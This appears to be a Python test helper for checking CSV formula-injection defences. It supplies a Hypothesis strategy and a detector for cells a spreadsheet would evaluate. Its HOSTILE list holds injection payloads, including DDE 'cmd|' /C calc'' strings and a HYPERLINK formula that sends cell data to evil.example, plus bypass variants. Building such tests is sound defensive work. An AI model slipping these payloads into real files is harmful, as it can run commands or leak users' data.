"""What a spreadsheet program makes of a CSV file: its own reading, apart from the program's."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from typing import Final

from hypothesis import strategies as st

SIGNS: Final = frozenset("=+-@")
HOSTILE: Final = (
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"PC 1006")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＠SUM(1)",
    " =1+1",
    '"=1+1',
    '" =1+1',
    "'=1+1",
    "''=1+1",
    "\ufeff=1+1",
    "Marlbeck;=1+1",
    'Marlbeck;"=1+1',
    "Marlbeck;'=1+1",
    "one\n=1+1",
    "one\t@two",
    ";=",
    "'",
    "'-5",
    "-5",
    "-",
)
"""What was seen in the field, or could be: evaluated by a program, or marked already."""

_NUMBER: Final = re.compile(r"[+-]?\d+(\.\d*)?([eE][+-]?\d+)?|[+-]?\.\d+([eE][+-]?\d+)?", re.ASCII)


def texts(*, without: str = "") -> st.SearchStrategy[str]:
    """Any text, often one that a program would evaluate, or nearly.

    Args:
        without: characters that do not occur in it.
    """
    pieces = st.sampled_from(tuple("=+-@;'\" ,|\t\r\n1aä＝－\u00a0\0"))
    made = st.one_of(
        st.sampled_from(HOSTILE),
        st.lists(pieces, max_size=8).map("".join),
        st.text(st.characters(codec="utf-8"), max_size=12),
    )
    return made.map(lambda text: "".join(letter for letter in text if letter not in without))


def begun(content: str) -> list[str]:
    """The cells of a CSV file that begin a formula, in a program that separates by one mark or another."""
    found: list[str] = []
    for delimiter in ",;\t":
        for row in csv.reader(io.StringIO(content, newline=""), delimiter=delimiter):
            found += [cell for cell in row if _begins(cell) and not _is_number(cell, delimiter)]
    return found


def _begins(cell: str) -> bool:
    if cell.startswith(("\t", "\r", "\n")):
        return True
    for letter in cell:
        blank = letter.isspace() or letter == '"' or unicodedata.category(letter) in ("Cc", "Cf")
        if not blank:
            return bool(SIGNS & set(unicodedata.normalize("NFKC", letter)[:1]))
    return False


def _is_number(cell: str, delimiter: str) -> bool:
    """Whether it is a number; in a line that is not separated, whether it begins with one."""
    return _NUMBER.fullmatch(cell if delimiter == "," else cell.partition(",")[0]) is not None
